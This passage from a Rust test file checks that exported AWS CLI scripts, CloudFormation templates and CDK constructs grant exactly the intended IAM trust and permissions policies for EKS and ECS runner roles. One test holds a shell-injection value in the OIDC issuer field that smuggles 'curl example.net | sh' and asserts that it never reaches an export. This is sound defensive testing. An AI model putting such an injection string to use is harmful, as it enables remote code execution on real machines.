        );
    }
    // The JSON template has no comments: it says the same in its Metadata.
    let template: Value =
        serde_json::from_str(&export(&response, Format::CloudFormationJson).text).expect("JSON");
    let said = template["Metadata"]["GrantsMoreThanNamed"]
        .as_array()
        .expect("the grants, said");
    assert_eq!(said.len(), 2);
    assert!(
        said[0]
            .as_str()
            .is_some_and(|s| s.contains("trusts any principal"))
    );
}

/// On EKS: the script creates the runner role with exactly the core's trust policy (the
/// issuer and provider ARN spliced in from their variables' defaults) and puts exactly its
/// permissions policy; a role whose trust policy was pasted is never created.
#[test]
fn the_eks_aws_cli_script_hands_aws_exactly_the_runner_documents() {
    let mut checked = 0;
    for (name, request) in golden_requests() {
        let response = build(&request);
        let Some(role) = response.target.runner_role.clone() else {
            continue;
        };
        if response.has_errors() {
            continue;
        }
        let script = export(&response, Format::AwsCli).text;
        let dir = scratch(&name);
        let exists = is_existing(&response, "runner-role-trust-policy");
        if exists {
            let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
            assert!(refused.contains("does not exist"), "{name}: {refused}");
        }
        let runs: &[&[&str]] = if exists {
            &[&[role.as_str()]]
        } else {
            &[&[], &[role.as_str()]]
        };
        for existing in runs {
            let calls =
                run_script(&script, existing, &dir).unwrap_or_else(|e| panic!("{name}: {e}"));
            let mut sent = Vec::new();
            for call in &calls {
                let document = argument(call, "--policy-document")
                    .or_else(|| argument(call, "--assume-role-policy-document"));
                let Some(document) = document else { continue };
                assert_eq!(argument(call, "--role-name"), Some(role.as_str()), "{name}");
                let document: Value =
                    serde_json::from_str(document).unwrap_or_else(|e| panic!("{name}: {e}"));
                let expected = match (call[1].as_str(), argument(call, "--policy-name")) {
                    ("create-role" | "update-assume-role-policy", _) => {
                        policy(&response, "runner-role-trust-policy")
                    }
                    ("put-role-policy", Some("MatillionRunnerPermissions")) => {
                        policy(&response, "runner-role-permissions-policy")
                    }
                    other => panic!("{name}: unexpected call {other:?}"),
                };
                assert_eq!(Some(document), expected, "{name}: {call:?}");
                sent.push(call[1].clone());
            }
            assert!(
                !sent.iter().any(|v| v == "create-role") || !exists,
                "{name}: created the existing role"
            );
            assert!(
                sent.iter().any(|v| v == "put-role-policy"),
                "{name}: {sent:?}"
            );
            let expected_trust = if exists {
                response.documents[0]
                    .changes
                    .as_ref()
                    .is_some_and(|c| !c.is_empty())
            } else {
                true
            };
            assert_eq!(
                sent.iter()
                    .any(|v| v == "create-role" || v == "update-assume-role-policy"),
                expected_trust,
                "{name}: {sent:?}"
            );
        }
        checked += 1;
        let _ = fs::remove_dir_all(&dir);
    }
    assert!(checked >= 6, "only {checked} EKS requests");
}

/// On EKS: the CloudFormation JSON, deployed in another region and account with every
/// parameter at its default, creates the runner role with the core's trust policy (the IRSA
/// one a `Fn::Sub` string of JSON: its keys are made of the issuer) and its permissions.
#[test]
fn the_eks_cloudformation_template_deployed_elsewhere_grants_the_runner_documents() {
    let mut checked = 0;
    for (name, request) in golden_requests() {
        let response = build(&request);
        if response.has_errors() || response.target.runner_role.is_none() {
            continue;
        }
        let template: Value =
            serde_json::from_str(&export(&response, Format::CloudFormationJson).text)
                .unwrap_or_else(|e| panic!("{name}: the template is not JSON: {e}"));
        let resolved = |value: &Value| match resolve(value, &template, &response) {
            Value::String(text) => {
                serde_json::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}: {text}"))
            }
            other => other,
        };
        let resources = &template["Resources"];
        if is_existing(&response, "runner-role-trust-policy") {
            assert!(
                resources.get("RunnerRole").is_none(),
                "{name}: creates the existing role"
            );
            let properties = &resources["RunnerRolePolicy"]["Properties"];
            assert_eq!(
                resolve(&properties["RoleName"], &template, &response),
                json!(response.target.runner_role),
                "{name}"
            );
            assert_eq!(
                Some(resolved(&properties["PolicyDocument"])),
                policy(&response, "runner-role-permissions-policy"),
                "{name}"
            );
        } else {
            let role = &resources["RunnerRole"]["Properties"];
            assert_eq!(
                Some(resolved(&role["AssumeRolePolicyDocument"])),
                policy(&response, "runner-role-trust-policy"),
                "{name}"
            );
            assert_eq!(
                Some(resolved(&role["Policies"][0]["PolicyDocument"])),
                policy(&response, "runner-role-permissions-policy"),
                "{name}"
            );
            if response.target.issuer.is_some() {
                assert_eq!(
                    template["Parameters"]["OidcIssuer"]["Default"],
                    json!(response.target.issuer),
                    "{name}"
                );
            }
        }
        checked += 1;
    }
    assert!(checked >= 6, "only {checked} EKS requests");
}

/// A hostile issuer can never reach an export: the reader refuses it, and the exports then
/// say NOT READY and carry only placeholders where the issuer goes.
#[test]
fn no_text_typed_for_the_issuer_reaches_an_eks_export_unless_it_is_an_issuer() {
    let request: Request = serde_json::from_value(json!({
        "platform": "eks", "account": "123456789012", "region": "eu-west-1",
        "secrets": ["matillion/agent"],
        "oidcIssuer": "oidc.eks.eu-west-1.amazonaws.com/id/ABC'\"; curl example.net | sh; echo '",
    }))
    .expect("a request");
    let response = build(&request);
    assert!(response.has_errors());
    for format in Format::ALL {
        let text = export(&response, format).text;
        assert!(!text.contains("curl"), "{format:?}");
    }
}

/// A CDK prop is a promise: `agentAccount` or `agentRegion` is declared exactly when the
/// construct reads it, for the ECS roles in every scope and for the runner role (whose Pod
/// Identity trust and `"*"` secrets name neither).
#[test]
fn the_cdk_construct_declares_exactly_the_agent_props_it_reads() {
    let mut without_account = 0;
    // A runner role trusted through Pod Identity and reading every secret names no account.
    let pod_identity_all: Request = serde_json::from_value(json!({
        "platform": "eks",
        "eksCredentials": "pod-identity",
        "account": "123456789012",
        "region": "eu-west-1",
        "secretScope": "all",
    }))
    .expect("a request");
    let requests = golden_requests()
        .into_iter()
        .chain([("pod identity, every secret".to_owned(), pod_identity_all)]);
    for (name, request) in requests {
        let response = build(&request);
        for scope in every_scope(&response) {
            let covered = Scope::of(&scope).expect("not empty");
            let source = export_documents(&response, Format::Cdk, covered).text;
            for prop in ["agentAccount", "agentRegion"] {
                assert_eq!(
                    source.contains(&format!("readonly {prop}?: string;")),
                    source.contains(&format!("props.{prop} ??")),
                    "{name} / {}: {prop}",
                    scope_name(&scope)
                );
            }
            without_account += usize::from(!source.contains("agentAccount"));
        }
    }
    // The rule is not vacuous: some constructs, the runner's among them, need no account.
    assert!(without_account > 0);
}
